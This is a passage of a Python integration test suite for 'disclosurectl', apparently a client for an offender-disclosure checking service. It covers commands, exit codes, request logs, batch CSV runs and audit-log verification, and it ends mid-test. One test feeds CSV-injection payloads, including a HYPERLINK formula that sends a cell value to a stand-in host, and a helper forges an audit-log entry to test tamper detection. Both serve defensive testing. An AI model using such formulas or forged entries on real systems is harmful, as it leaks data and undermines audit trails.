"""test_client.py - disclosurectl as case workers, registrars, auditors and
their scripts meet it, driven against the real daemon over real mutual TLS:
every command, every exit code (0 ok, 1 failure, 2 usage, 3 refused,
4 unreachable / TLS / 5xx), the request log and its receipts, settings
from flags, environment and config file, TLS failures in words, and
offline verification of tampered audit exports.

Uses tests/integration/harness.py (daemon, PKI, principals); every person
here is fictitious.
"""

import csv
import hashlib
import json
import os
import re
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import time
import unittest
from pathlib import Path

from harness import (CTL_BIN, HEX64, REPO, Daemon, DaemonTestCase, check_body, ctl, ctl_available, ctl_raw,
                     export_audit, fixture_records, free_port, namesakes, openssl, pki, register_lines,
                     tmo)

OK, FAILURE, USAGE, REFUSED, UNREACHABLE = 0, 1, 2, 3, 4

COMMANDS = ["check", "show", "decide", "offender", "import", "batch", "audit", "log", "health"]

TOBIAS = ["--case", "WM-CTL-0001", "--purpose", "csods_right_to_ask",
          "--justification", "Fictitious applicant's partner has contact with her child",
          "--family", "Farthingale", "--given", "Tobias", "--dob", "1971-04-09"]


def out(p):
    return (p.stdout + p.stderr).decode(errors="replace")


def read_log(path):
    return [json.loads(l) for l in Path(path).read_text().splitlines() if l.strip()]


def client_files(principal):
    crt, key = pki().certs[principal]
    return str(crt), str(key)


@unittest.skipUnless(ctl_available(), "build/disclosurectl not built")
class ClientCommands(DaemonTestCase):
    """One daemon with the fixture records and eleven people of one name;
    each test keeps its own request log."""

    records = fixture_records() + namesakes("WMP-NF", "Quilla", "Fennimore", 11)

    def setUp(self):
        super().setUp()
        self.work = Path(tempfile.mkdtemp(dir=self.daemon.dir))
        self.log = self.work / "requests.log"

    def ctl(self, principal, *args, log=None, **kw):
        return ctl(self.daemon, principal, *map(str, args), log=log or self.log, **kw)

    def check_json(self, principal, *extra, case="WM-CTL-0001"):
        args = list(TOBIAS)
        args[1] = case
        p = self.ctl(principal, "check", *args, *extra, "--json")
        self.assertEqual(p.returncode, OK, out(p))
        return json.loads(p.stdout)

    # ---------------------------------------------------------------- help and usage

    def test_version_and_the_help_of_every_command_exit_0(self):
        p = ctl_raw("--version")
        self.assertEqual(p.returncode, OK)
        self.assertRegex(p.stdout.decode(), r"^disclosurectl \d+\.\d+")
        p = ctl_raw("--help")
        self.assertEqual(p.returncode, OK)
        for cmd in COMMANDS:
            self.assertIn(cmd, p.stdout.decode())
        for cmd in COMMANDS:
            with self.subTest(command=cmd):
                p = ctl_raw(cmd, "--help")
                self.assertEqual(p.returncode, OK, out(p))
                text = p.stdout.decode()
                self.assertIn("usage: disclosurectl " + cmd, text)
                self.assertIn("Exit codes", text)
                self.assertIn("--server URL", text, "global flags missing from the help")

    def test_usage_errors_exit_2_and_say_what_is_wrong(self):
        cases = [
            ("no command", [], "usage"),
            ("an unknown command", ["frobnicate"], "unknown command"),
            ("an unknown global flag", ["--frob", "check"], "--frob"),
            ("check without --family", ["check", "--case", "X", "--purpose", "other",
                                        "--justification", "j"], "--family"),
            ("check with both --dob and --age",
             ["check"] + TOBIAS[:-2] + ["--dob", "1971-04-09", "--age", "50"], "not both"),
            ("check with an age that is not a number", ["check"] + TOBIAS[:-2] + ["--age", "fifty"],
             "age"),
            ("show without an id", ["show"], "CHECK_ID"),
            ("decide without the decision", ["decide", "chk_x"], "decision"),
            ("decide with the decision twice",
             ["decide", "chk_x", "no_disclosure", "--decision", "refer"], "decision given twice"),
            ("export with a page of one", ["audit", "export", "--limit", "1"], "outside 2-10000"),
            ("export from no number", ["audit", "export", "--from", "x"], "not a whole number"),
            ("offender without --check", ["offender", "WMP-T000001"], "--check"),
            ("import without a file", ["import"], "FILE"),
            ("batch without -o", ["batch", "x.csv"], "-o"),
            ("audit without a subcommand", ["audit"], "usage"),
            ("audit verify without --key", ["audit", "verify", "x.ndjson"], "--key"),
            ("a timeout that is not a number", ["--timeout", "soon", "health"], "--timeout"),
        ]
        for name, args, words in cases:
            with self.subTest(case=name):
                p = self.ctl("cw.wm", *args) if args and args[0] != "--frob" else ctl_raw(*args)
                self.assertEqual(p.returncode, USAGE, "%s: %s" % (name, out(p)))
                self.assertIn(words, out(p))

    def test_global_flags_are_accepted_after_the_command_too(self):
        crt, key = client_files("cw.wm")
        p = ctl_raw("health", "--server", "https://localhost:%d" % self.daemon.port,
                    "--cert", crt, "--key", key, "--ca", pki().server_ca, "--log", self.log)
        self.assertEqual(p.returncode, OK, out(p))  # any known principal may read /healthz
        self.assertEqual([r["state"] for r in read_log(self.log)], ["sent", "answered"])

    # ---------------------------------------------------------------- check

    def test_check_prints_the_outcome_first_then_candidates_with_reasons_in_words(self):
        p = self.ctl("cw.wm", "check", *TOBIAS)
        self.assertEqual(p.returncode, OK, out(p))
        text = p.stdout.decode()
        first = text.splitlines()[0]
        self.assertRegex(first, r"^Outcome: (MATCH|POSSIBLE MATCH) \(check \S+\)$")
        self.assertIn("WMP-T000001", text)
        self.assertIn("Farthingale", text)
        self.assertIn("family name exact", text)
        self.assertRegex(text, r"Audit receipt: seq \d+, hash [0-9a-f]{64}")
        # the other force's namesake is shown, but only as a summary
        self.assertIn("MET-T000001", text)
        self.assertIn("(other force:", text)

    def test_every_date_of_birth_level_reads_as_words(self):
        # Farthingale's recorded date is 1971-04-09; each date below meets
        # it at one level of the matcher's (docs/matching.md).
        cases = [("1971-04-11", "date of birth: 1 to 3 days apart"),
                 ("1971-01-01", "date of birth: same year, one given as 1 January"),
                 ("1971-09-04", "date of birth: day and month swapped")]
        for dob, words in cases:
            with self.subTest(dob=dob):
                p = self.ctl("cw.wm", "check", *TOBIAS[:-1], dob)
                self.assertEqual(p.returncode, OK, out(p))
                self.assertIn(words, p.stdout.decode())
                self.assertNotIn("dob:", p.stdout.decode())

    def test_check_json_prints_the_servers_answer(self):
        j = self.check_json("cw.wm")
        self.assertIn(j["outcome"], ("match", "possible_match"))
        self.assertEqual(j["candidates"][0]["offender_id"], "WMP-T000001")
        self.assertIsInstance(j["audit"]["seq"], int)
        self.assertRegex(j["audit"]["hash"], HEX64)

    def test_check_with_aliases_sends_every_name(self):
        p = self.ctl("cw.wm", "check", "--case", "WM-CTL-ALIAS", "--purpose", "other",
                     "--justification", "fictitious", "--family", "Nobodyknows",
                     "--alias", "Toby Farthing", "--alias", "Farthingale, Tobias", "--json")
        self.assertEqual(p.returncode, OK, out(p))
        ids = [c["offender_id"] for c in json.loads(p.stdout)["candidates"]]
        self.assertIn("WMP-T000001", ids)

    def test_check_without_candidates_says_so(self):
        p = self.ctl("cw.wm", "check", "--case", "WM-CTL-NONE", "--purpose", "other",
                     "--justification", "fictitious", "--family", "Xylophanides",
                     "--given", "Quorra", "--dob", "1999-01-01")
        self.assertEqual(p.returncode, OK, out(p))
        self.assertTrue(p.stdout.decode().startswith("Outcome: NO MATCH"), out(p))
        self.assertIn("No candidates.", p.stdout.decode())

    def test_a_bad_field_is_refused_with_exit_3_and_the_servers_words(self):
        args = TOBIAS[:-2] + ["--dob", "1971-13-45"]
        p = self.ctl("cw.wm", "check", *args)
        self.assertEqual(p.returncode, REFUSED, out(p))
        self.assertIn("subject.dob", out(p))
        self.assertIn("400", out(p))
        p = self.ctl("cw.wm", "check", *args, "--json")
        self.assertEqual(p.returncode, REFUSED, out(p))
        self.assertEqual(json.loads(p.stdout)["error"]["field"], "subject.dob")

    def test_a_role_that_may_not_check_is_refused_with_exit_3(self):
        for who in ("mon.wm", "aud.nat", "reg.wm", "unknown"):
            with self.subTest(principal=who):
                p = self.ctl(who, "check", *TOBIAS)
                self.assertEqual(p.returncode, REFUSED, out(p))
                self.assertIn("403", out(p))

    # ---------------------------------------------------------------- request log

    def test_the_request_log_holds_sent_then_answered_with_the_receipt(self):
        j = self.check_json("cw.wm")
        recs = read_log(self.log)
        self.assertEqual([r["state"] for r in recs], ["sent", "answered"])
        sent, answered = recs
        self.assertEqual(sent["id"], answered["id"])
        self.assertEqual((sent["method"], sent["path"]), ("POST", "/v1/checks"))
        self.assertEqual(sent["case_ref"], "WM-CTL-0001")
        self.assertEqual(answered["status"], 200)
        self.assertEqual(answered["receipt"], {"seq": j["audit"]["seq"], "hash": j["audit"]["hash"]})
        self.assertEqual(answered["check_id"], j["check_id"])
        self.assertLessEqual(sent["time"], answered["time"])

    def test_the_request_log_is_0600_and_holds_no_secret_and_no_name(self):
        self.check_json("cw.wm")
        mode = stat.S_IMODE(os.stat(self.log).st_mode)
        self.assertEqual(mode, 0o600)
        text = self.log.read_text()
        crt, key = client_files("cw.wm")
        key_body = "".join(Path(key).read_text().splitlines()[1:-1])
        for secret in ("PRIVATE KEY", "BEGIN CERTIFICATE", key_body[:40], "Tobias", "Farthingale",
                       "partner has contact"):
            self.assertNotIn(secret, text)

    def test_a_refused_request_is_logged_with_its_status(self):
        self.ctl("mon.wm", "check", *TOBIAS)
        recs = read_log(self.log)
        self.assertEqual(recs[-1]["state"], "answered")
        self.assertEqual(recs[-1]["status"], 403)

    def test_an_unreachable_server_is_logged_as_failed(self):
        crt, key = client_files("cw.wm")
        p = ctl_raw("--server", "https://127.0.0.1:%d" % free_port(), "--cert", crt, "--key", key,
                    "--ca", pki().server_ca, "--log", self.log, "check", *TOBIAS)
        self.assertEqual(p.returncode, UNREACHABLE, out(p))
        self.assertIn("cannot connect", out(p))
        recs = read_log(self.log)
        self.assertEqual([r["state"] for r in recs], ["sent", "failed"])

    def test_the_default_log_is_under_xdg_state_home(self):
        state = self.work / "state"
        p = ctl(self.daemon, "cw.wm", "check", *TOBIAS, "--json",
                env_extra={"XDG_STATE_HOME": str(state)})
        self.assertEqual(p.returncode, OK, out(p))
        path = state / "disclosurectl" / "requests.log"
        self.assertEqual([r["state"] for r in read_log(path)], ["sent", "answered"])
        self.assertEqual(stat.S_IMODE(os.stat(path).st_mode), 0o600)

    def test_log_lists_the_requests_without_contacting_the_server(self):
        self.check_json("cw.wm")
        self.ctl("mon.wm", "check", *TOBIAS)
        p = ctl_raw("--log", self.log, "log")
        self.assertEqual(p.returncode, OK, out(p))
        rows = p.stdout.decode().splitlines()
        self.assertEqual(len(rows), 3, out(p))
        self.assertIn("POST /v1/checks", rows[1])
        self.assertIn("200", rows[1])
        self.assertIn("403", rows[2])
        p = ctl_raw("--log", self.log, "log", "--last", "1", "--json")
        self.assertEqual(p.returncode, OK, out(p))
        recs = [json.loads(x) for x in p.stdout.splitlines()]
        # The newest request's records only: --json printed the whole log.
        self.assertEqual([r["state"] for r in recs], ["sent", "answered"], out(p))
        self.assertEqual(len({r["id"] for r in recs}), 1)
        self.assertEqual(recs[-1]["status"], 403)
        p = ctl_raw("--log", self.log, "log", "--last", "2", "--json")
        recs = [json.loads(x) for x in p.stdout.splitlines()]
        self.assertEqual([r.get("status") for r in recs], [None, 200, None, 403], out(p))
        p = ctl_raw("--log", self.log, "log", "--json")
        self.assertEqual(len(p.stdout.splitlines()), 4, out(p))
        p = ctl_raw("--log", self.work / "none.log", "log")
        self.assertEqual(p.returncode, OK, out(p))
        self.assertIn("no requests", out(p))

    # ---------------------------------------------------------------- show, offender, decide

    def test_an_officer_shows_reads_the_record_and_decides_once(self):
        j = self.check_json("do.wm", case="WM-CTL-DECIDE")
        cid = j["check_id"]
        p = self.ctl("do.wm", "show", cid)
        self.assertEqual(p.returncode, OK, out(p))
        self.assertIn("Outcome:", p.stdout.decode())
        self.assertIn("WM-CTL-DECIDE", p.stdout.decode())
        self.assertIn("none recorded", p.stdout.decode())
        p = self.ctl("do.wm", "show", cid, "--json")
        self.assertEqual(json.loads(p.stdout)["check_id"], cid)

        p = self.ctl("do.wm", "offender", "WMP-T000001", "--check", cid)
        self.assertEqual(p.returncode, OK, out(p))
        self.assertIn("Quill", p.stdout.decode())  # the middle name: only the full record has it
        # the release's own audit receipt (from the answer's headers)
        self.assertRegex(p.stdout.decode(), r"Audit receipt: seq \d+, hash [0-9a-f]{64}")
        p = self.ctl("do.wm", "offender", "WMP-T000002", "--check", cid)
        self.assertEqual(p.returncode, REFUSED, "not a candidate of the check: " + out(p))

        p = self.ctl("do.wm", "decide", cid, "disclose", "--offender", "WMP-T000001",
                     "--recipient", "Fictitious Applicant", "--rationale", "fictitious rationale")
        self.assertEqual(p.returncode, OK, out(p))
        self.assertIn("Decision recorded", p.stdout.decode())
        self.assertRegex(p.stdout.decode(), r"Audit receipt: seq \d+")
        p = self.ctl("do.wm", "decide", cid, "refer", "--offender", "WMP-T000001")
        self.assertEqual(p.returncode, REFUSED, "a second decision: " + out(p))
        self.assertIn("409", out(p))
        p = self.ctl("do.wm", "show", cid)
        self.assertIn("disclose", p.stdout.decode())

    def test_show_decide_and_offender_refusals_exit_3(self):
        cid = self.check_json("cw.wm", case="WM-CTL-OWN")["check_id"]
        cases = [
            ("another force's caseworker reads the check", "cw.met", ["show", cid]),
            ("a caseworker decides", "cw.wm", ["decide", cid, "no_disclosure"]),
            ("a caseworker reads a record", "cw.wm", ["offender", "WMP-T000001", "--check", cid]),
            ("an unknown check", "do.wm", ["show", "chk_doesnotexist"]),
        ]
        for name, who, args in cases:
            with self.subTest(case=name):
                p = self.ctl(who, *args)
                self.assertEqual(p.returncode, REFUSED, "%s: %s" % (name, out(p)))
                self.assertIn("refused", out(p))

    # ---------------------------------------------------------------- import

    def test_import_streams_the_file_and_lists_the_rejected_lines(self):
        recs = [{"id": "WMP-CTL%04d" % i,
                 "names": [{"given": "Quillon", "family": "Marrowfeld%d" % i, "kind": "primary"}],
                 "managing_force": "west-mercia", "status": "active"} for i in range(3)]
        lines = [json.dumps(r) for r in recs]
        lines.insert(1, json.dumps({"id": "WMP-CTLBAD", "managing_force": "west-mercia",
                                    "status": "active"}))
        f = self.work / "import.jsonl"
        f.write_text("\n".join(lines) + "\n")
        p = self.ctl("reg.wm", "import", f)
        self.assertEqual(p.returncode, FAILURE, "some lines rejected: " + out(p))
        text = p.stdout.decode()
        self.assertIn("created 3, replaced 0, rejected 1", text)
        self.assertIn("line 2:", text)
        self.assertIn("WMP-CTLBAD", text)
        good = self.work / "good.jsonl"
        good.write_text("\n".join(lines[:1] + lines[2:]) + "\n")
        p = self.ctl("reg.wm", "import", good)
        self.assertEqual(p.returncode, OK, out(p))
        self.assertIn("created 0, replaced 3, rejected 0", p.stdout.decode())
        p = self.ctl("reg.wm", "import", good, "--json")
        self.assertEqual(json.loads(p.stdout)["replaced"], 3)

    def test_import_of_a_file_larger_than_a_request_goes_in_parts_with_true_line_numbers(self):
        lines = []
        for i in range(60):
            if i in (7, 41):  # no names: rejected
                lines.append(json.dumps({"id": "WMP-PRT%04d" % i, "managing_force": "west-mercia",
                                         "status": "active"}))
            else:
                lines.append(json.dumps({"id": "WMP-PRT%04d" % i, "names": [
                    {"given": "Peregrine", "family": "Partwhistle%d" % i, "kind": "primary"}],
                    "managing_force": "west-mercia", "status": "active"}))
        f = self.work / "parts.jsonl"
        f.write_text("\n".join(lines) + "\n")
        p = self.ctl("reg.wm", "import", f, "--json",
                     env_extra={"DISCLOSURECTL_IMPORT_PART_MAX": "2048"})
        self.assertEqual(p.returncode, FAILURE, out(p))
        j = json.loads(p.stdout)
        self.assertGreater(j["parts"], 2)
        self.assertEqual(j["created"], 58)
        self.assertEqual(sorted(r["line"] for r in j["rejected"]), [8, 42])
        sent = [r for r in read_log(self.log) if r["state"] == "sent"]
        self.assertEqual(len(sent), j["parts"])
        self.assertTrue(all(r["body_bytes"] <= 2048 for r in sent))

    def test_import_refusals_and_local_errors(self):
        f = self.work / "one.jsonl"
        f.write_text(json.dumps(fixture_records()[0]) + "\n")
        p = self.ctl("cw.wm", "import", f)
        self.assertEqual(p.returncode, REFUSED, out(p))
        p = self.ctl("reg.wm", "import", self.work / "missing.jsonl")
        self.assertEqual(p.returncode, FAILURE, out(p))
        self.assertIn("missing.jsonl", out(p))

    # ---------------------------------------------------------------- batch

    def batch_csv(self, rows):
        f = self.work / "batch.csv"
        with open(f, "w", newline="") as fh:
            w = csv.writer(fh)
            w.writerow(["case_ref", "purpose", "justification", "family", "given", "dob", "alias"])
            w.writerows(rows)
        return f

    ROWS = [
        ["WM-B-1", "other", "fictitious, with a comma", "Farthingale", "Tobias", "1971-04-09", ""],
        ["WM-B-2", "other", "fictitious", "Xylophanides", "Quorra", "", ""],
        ["WM-B-3", "other", "fictitious", "Nobodyknows", "", "", "Toby Farthing"],
    ]

    def checks_sent(self):
        return sum(1 for r in read_log(self.log) if r["state"] == "sent" and r["path"] == "/v1/checks")

    def test_batch_writes_one_result_per_row_and_resumes_without_repeating(self):
        f = self.batch_csv(self.ROWS)
        res = self.work / "results.csv"
        p = self.ctl("cw.wm", "batch", f, "-o", res)
        self.assertEqual(p.returncode, OK, out(p))
        rows = list(csv.DictReader(open(res)))
        self.assertEqual([r["row"] for r in rows], ["1", "2", "3"])
        self.assertEqual(rows[0]["best_offender_id"], "WMP-T000001")
        self.assertEqual(rows[1]["outcome"], "no_match")
        self.assertEqual(rows[2]["best_offender_id"], "WMP-T000001")
        for r in rows:
            self.assertEqual(r["status"], "200")
            self.assertRegex(r["audit_hash"], HEX64)
        self.assertEqual(self.checks_sent(), 3)

        # An interruption after row 1: row 2 never written, row 3 half written.
        text = res.read_text().splitlines(keepends=True)
        res.write_text(text[0] + text[1] + text[3][:10])
        p = self.ctl("cw.wm", "batch", f, "-o", res)
        self.assertEqual(p.returncode, OK, out(p))
        self.assertIn("resuming", out(p))
        self.assertEqual(self.checks_sent(), 5, "only rows 2 and 3 may run again")
        rows = list(csv.DictReader(open(res)))
        self.assertEqual(sorted(r["row"] for r in rows), ["1", "2", "3"])

        p = self.ctl("cw.wm", "batch", f, "-o", res)
        self.assertEqual(p.returncode, OK, out(p))
        self.assertEqual(self.checks_sent(), 5, "a finished batch runs nothing")

    def test_batch_says_when_more_people_fit_than_the_ten_shown(self):
        more = ["WM-B-MORE", "other", "fictitious", "Fennimore", "Quilla", "", ""]
        f = self.batch_csv([self.ROWS[0], more])
        res = self.work / "results.csv"
        p = self.ctl("cw.wm", "batch", f, "-o", res)
        self.assertEqual(p.returncode, OK, out(p))
        rows = list(csv.DictReader(open(res)))
        self.assertEqual([(r["candidates"], r["more_candidates"]) for r in rows],
                         [("2", "false"), ("10", "true")])

        # Results written before the column was added: resumed as they are,
        # every row with the twelve columns of their header.
        old = self.work / "old-results.csv"
        lines = res.read_text().splitlines()
        old.write_text("\n".join(l.rsplit(",", 1)[0] for l in lines[:2]) + "\n")
        p = self.ctl("cw.wm", "batch", f, "-o", old)
        self.assertEqual(p.returncode, OK, out(p))
        self.assertIn("resuming", out(p))
        rows = list(csv.reader(open(old)))
        self.assertEqual([len(r) for r in rows], [12, 12, 12])
        self.assertEqual(rows[0][-1], "error")
        self.assertEqual([r[0] for r in rows[1:]], ["1", "2"])

    def test_batch_results_never_hand_a_spreadsheet_a_formula(self):
        # Results CSVs are opened in spreadsheets: a cell beginning = + - @
        # (a case_ref from a web form, echoed in a refused row) would run as
        # a formula (CSV injection).  Such cells get a leading ', and a
        # resumed batch still knows its rows.
        refs = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "-A1", "@SUM(1)", "+1", "'=kept",
                "WM-F-1"]
        f = self.batch_csv([[ref, "other", "fictitious", "Xylophanides", "Quorra", "", ""]
                            for ref in refs])
        res = self.work / "formula.csv"
        p = self.ctl("cw.wm", "batch", f, "-o", res)
        self.assertIn(p.returncode, (OK, REFUSED), out(p))
        cells = [r["case_ref"] for r in csv.DictReader(open(res))]
        self.assertEqual(cells, ["'" + refs[0], "'-A1", "'@SUM(1)", "'+1", "''=kept", "WM-F-1"])
        self.assertEqual([r["status"] for r in csv.DictReader(open(res))][1], "200")
        for line in res.read_text().splitlines()[1:]:
            self.assertNotRegex(line.split(",", 2)[1], r'^"?[=+\-@]', line)
        sent = self.checks_sent()
        p = self.ctl("cw.wm", "batch", f, "-o", res)
        self.assertIn(p.returncode, (OK, REFUSED), out(p))
        self.assertNotIn("another input", out(p))
        self.assertEqual(self.checks_sent(), sent, "a finished batch runs nothing")

    def test_batch_reads_quoted_fields_with_commas_quotes_and_line_breaks(self):
        why = 'Fictitious referral, line one\nthe applicant said "urgent"'
        f = self.batch_csv([["WM-B-Q", "other", why, "Farthingale", "Tobias", "1971-04-09", ""]])
        res = self.work / "results.csv"
        p = self.ctl("cw.wm", "batch", f, "-o", res)
        self.assertEqual(p.returncode, OK, out(p))
        row = list(csv.DictReader(open(res)))[0]
        p = self.ctl("cw.wm", "show", row["check_id"], "--json")
        self.assertEqual(p.returncode, OK, out(p))
        self.assertEqual(json.loads(p.stdout)["justification"], why)

    def test_ctrl_c_finishes_the_row_in_flight_and_a_rerun_repeats_nothing(self):
        rows = [["WM-INT-%d" % i, "other", "fictitious", "Xylophanides", "Quorra", "", ""]
                for i in range(200)]
        f = self.batch_csv(rows)
        res = self.work / "results.csv"
        crt, key = client_files("cw.wm")
        proc = subprocess.Popen(
            [str(CTL_BIN), "--server", "https://localhost:%d" % self.daemon.port, "--cert", crt,
             "--key", key, "--ca", str(pki().server_ca), "--log", str(self.log), "batch", str(f),
             "-o", str(res)], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        deadline = time.monotonic() + tmo(30)
        while time.monotonic() < deadline and proc.poll() is None:
            if res.exists() and res.read_text().count("\n") >= 3:
                break
            time.sleep(0.01)
        proc.send_signal(signal.SIGINT)
        stdout, stderr = proc.communicate(timeout=tmo(30))
        self.assertEqual(proc.returncode, FAILURE, (stdout + stderr).decode())
        self.assertIn(b"interrupted", stderr)
        done = len(list(csv.DictReader(open(res))))
        self.assertLess(done, 200)
        self.assertEqual(self.checks_sent(), done, "every sent check is in the results")
        p = self.ctl("cw.wm", "batch", f, "-o", res)
        self.assertEqual(p.returncode, OK, out(p))
        self.assertEqual(self.checks_sent(), 200, "no check ran twice")
        self.assertEqual(sorted(int(r["row"]) for r in csv.DictReader(open(res))),
                         list(range(1, 201)))

    def test_batch_ndjson_output_keeps_the_servers_answer(self):
        f = self.batch_csv(self.ROWS[:2])
        res = self.work / "results.ndjson"
        p = self.ctl("cw.wm", "batch", f, "-o", res)
        self.assertEqual(p.returncode, OK, out(p))
        lines = [json.loads(l) for l in res.read_text().splitlines()]
        self.assertEqual([l["row"] for l in lines], [1, 2])
        self.assertEqual(lines[0]["result"]["candidates"][0]["offender_id"], "WMP-T000001")
        self.assertEqual(lines[0]["case_ref"], "WM-B-1")

    def test_batch_refused_rows_carry_the_reason_and_are_not_retried(self):
        f = self.batch_csv([self.ROWS[0], ["WM-B-BAD", "other", "fictitious", "Farthingale",
                                           "Tobias", "1971-02-30", ""]])
        res = self.work / "results.csv"
        p = self.ctl("cw.wm", "batch", f, "-o", res)
        self.assertEqual(p.returncode, REFUSED, out(p))
        rows = list(csv.DictReader(open(res)))
        self.assertEqual(rows[1]["status"], "400")
        self.assertIn("dob", rows[1]["error"])
        p = self.ctl("cw.wm", "batch", f, "-o", res)
        self.assertEqual(p.returncode, REFUSED, out(p))
        self.assertEqual(self.checks_sent(), 2)

    def test_batch_sends_a_row_it_could_not_send_once_the_input_is_mended(self):
        # Status 0: the client did not send the row (here: a comma left
        # unquoted).  A resumed batch counted it as answered and never sent it.
        f = self.work / "mend.csv"
        f.write_text("case_ref,purpose,justification,family,given\n"
                     "WM-MEND-1,other,fictitious,Farthingale,Tobias\n"
                     "WM-MEND-2,other,a reason, with a comma,Farthingale,Tobias\n")
        res = self.work / "mend-results.csv"
        p = self.ctl("cw.wm", "batch", f, "-o", res)
        self.assertEqual(p.returncode, REFUSED, out(p))
        self.assertEqual([r["status"] for r in csv.DictReader(open(res))], ["200", "0"])
        self.assertEqual(self.checks_sent(), 1)
        f.write_text("case_ref,purpose,justification,family,given\n"
                     "WM-MEND-1,other,fictitious,Farthingale,Tobias\n"
                     "WM-MEND-2,other,\"a reason, with a comma\",Farthingale,Tobias\n")
        p = self.ctl("cw.wm", "batch", f, "-o", res)
        self.assertEqual(p.returncode, OK, out(p))
        self.assertIn("1 rows an earlier run could not send are tried again", out(p))
        self.assertEqual(self.checks_sent(), 2, "row 1 again, or row 2 not at all")
        rows = list(csv.DictReader(open(res)))
        self.assertEqual([(r["row"], r["status"]) for r in rows], [("1", "200"), ("2", "0"), ("2", "200")])
        p = self.ctl("cw.wm", "batch", f, "-o", res)
        self.assertEqual(p.returncode, OK, out(p))
        self.assertEqual(self.checks_sent(), 2, "a finished batch runs nothing")

    def test_batch_refuses_an_output_of_another_input(self):
        res = self.work / "results.csv"
        p = self.ctl("cw.wm", "batch", self.batch_csv(self.ROWS[:1]), "-o", res)
        self.assertEqual(p.returncode, OK, out(p))
        other = self.work / "other.csv"
        other.write_text("case_ref,purpose,justification,family\nWM-OTHER,other,x,Y\n")
        p = self.ctl("cw.wm", "batch", other, "-o", res)
        self.assertEqual(p.returncode, FAILURE, out(p))
        self.assertIn("another input", out(p))
        shifted = self.work / "shifted.csv"
        shifted.write_text("case_ref,purpose,justification,family,given\n"
                           "WM-SHIFT,other,a reason, with a comma,Farthingale,Tobias\n")
        p = self.ctl("cw.wm", "batch", shifted, "-o", self.work / "r1.csv")
        self.assertEqual(p.returncode, REFUSED, out(p))
        row = list(csv.DictReader(open(self.work / "r1.csv")))[0]
        self.assertEqual(row["status"], "0")
        self.assertIn("6 fields where the header has 5", row["error"])
        self.assertEqual(self.checks_sent(), 1, "a shifted row must not be sent")
        bad = self.work / "bad.csv"
        bad.write_text("case_ref,purpose,colour\n")
        p = self.ctl("cw.wm", "batch", bad, "-o", self.work / "r2.csv")
        self.assertEqual(p.returncode, FAILURE, out(p))
        self.assertIn("unknown column 'colour'", out(p))

    # ---------------------------------------------------------------- audit export

    def test_audit_export_writes_what_verifies(self):
        self.check_json("cw.wm", case="WM-CTL-EXPORT")
        f = self.work / "export.ndjson"
        p = self.ctl("aud.nat", "audit", "export", "-o", f)
        self.assertEqual(p.returncode, OK, out(p))
        self.assertFalse(Path(str(f) + ".partial").exists())
        p = ctl_raw("audit", "verify", f, "--key", pki().audit_pub)
        self.assertEqual(p.returncode, OK, out(p))
        self.assertIn("audit verify: OK", p.stdout.decode())
        # When and with which key the last seal was made: a log cut back
        # to an old checkpoint verifies, and only this says it is old.
        last = json.loads(f.read_text().splitlines()[-1])["checkpoint"]
        self.assertIn("the last seal signed at %s with key %s" % (last["signed_at"], last["key_id"]),
                      p.stdout.decode())
        # small pages give the same stored entries
        g = self.work / "export-small.ndjson"
        p = self.ctl("aud.nat", "audit", "export", "--limit", "3", "-o", g)
        self.assertEqual(p.returncode, OK, out(p))
        self.assertEqual(ctl_raw("audit", "verify", g, "--key", pki().audit_pub).returncode, OK)
        a, b = f.read_bytes().splitlines(), g.read_bytes().splitlines()
        self.assertEqual(a[:len(a) - 1], b[:len(a) - 1])
        # past the end: said so, not "seq -1--1"
        p = self.ctl("aud.nat", "audit", "export", "--from", "999999", "-o", self.work / "none.ndjson")
        self.assertEqual(p.returncode, OK, out(p))
        self.assertIn("no entry from seq 999999 on", out(p))

    def test_audit_export_is_for_auditors(self):
        f = self.work / "export.ndjson"
        p = self.ctl("cw.wm", "audit", "export", "-o", f)
        self.assertEqual(p.returncode, REFUSED, out(p))
        self.assertFalse(f.exists())
        self.assertFalse(Path(str(f) + ".partial").exists())


def forge_line(prev_line, seq):
    """An entry a forger appends: correct seq, prev and own hash."""
    prev = json.loads(prev_line)["hash"]
    head = ('{"seq":%d,"time":"2026-11-28T18:00:00.000Z","prev":"%s","action":"check","status":200'
            % (seq, prev)).encode()
    return head + b',"hash":"' + hashlib.sha256(head).hexdigest().encode() + b'"}'


@unittest.skipUnless(ctl_available(), "build/disclosurectl not built")
class ClientAuditVerify(DaemonTestCase):
    """audit verify with nothing but the export, the key and the receipts."""

    records = fixture_records()
    # Stored checkpoints inside the chain, not only the one that seals an export.
    daemon_conf = {"audit": {"checkpoint_every": "4"}}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.work = Path(tempfile.mkdtemp(dir=cls.daemon.dir))
        cls.log = cls.work / "requests.log"
        for i in range(3):
            ctl(cls.daemon, "cw.wm", "check", *TOBIAS[:1], "WM-V-%d" % i, *TOBIAS[2:], log=cls.log)
        cls.early = export_audit(cls.daemon)  # ends with a checkpoint
        for i in range(3):
            ctl(cls.daemon, "cw.wm", "check", *TOBIAS[:1], "WM-W-%d" % i, *TOBIAS[2:], log=cls.log)
        cls.export = cls.work / "export.ndjson"
        p = ctl(cls.daemon, "aud.nat", "audit", "export", "-o", str(cls.export))
        assert p.returncode == 0, out(p)
        cls.lines = cls.export.read_bytes().splitlines()

    def verify(self, lines, *extra):
        f = self.work / ("t-%s.ndjson" % hashlib.sha256(b"\n".join(lines)).hexdigest()[:12])
        f.write_bytes(b"".join(l + b"\n" for l in lines))
        return ctl_raw("audit", "verify", f, "--key", pki().audit_pub, *extra)

    def test_the_genuine_export_verifies_with_its_receipts(self):
        p = self.verify(self.lines)
        self.assertEqual(p.returncode, OK, out(p))
        p = self.verify(self.lines, "--receipts", self.log)
        self.assertEqual(p.returncode, OK, out(p))
        self.assertIn("receipts found", out(p))

    def test_reads_and_refusals_have_receipts_that_verify(self):
        # A full record released to an officer (the most sensitive read), a
        # stored check shown, and a refusal: each answer's audit entry is
        # in the client's log with its hash (X-Audit-Seq, X-Audit-Hash), and
        # verify --receipts proves it is in the export unchanged.
        log = self.work / "reads.log"
        p = ctl(self.daemon, "do.wm", "check", *TOBIAS[:1], "WM-R-1", *TOBIAS[2:], "--json",
                log=log)
        self.assertEqual(p.returncode, OK, out(p))
        cid = json.loads(p.stdout)["check_id"]
        for who, args, rc in (("do.wm", ["offender", "WMP-T000001", "--check", cid], OK),
                              ("do.wm", ["show", cid], OK),
                              ("cw.wm", ["offender", "WMP-T000001", "--check", cid], REFUSED)):
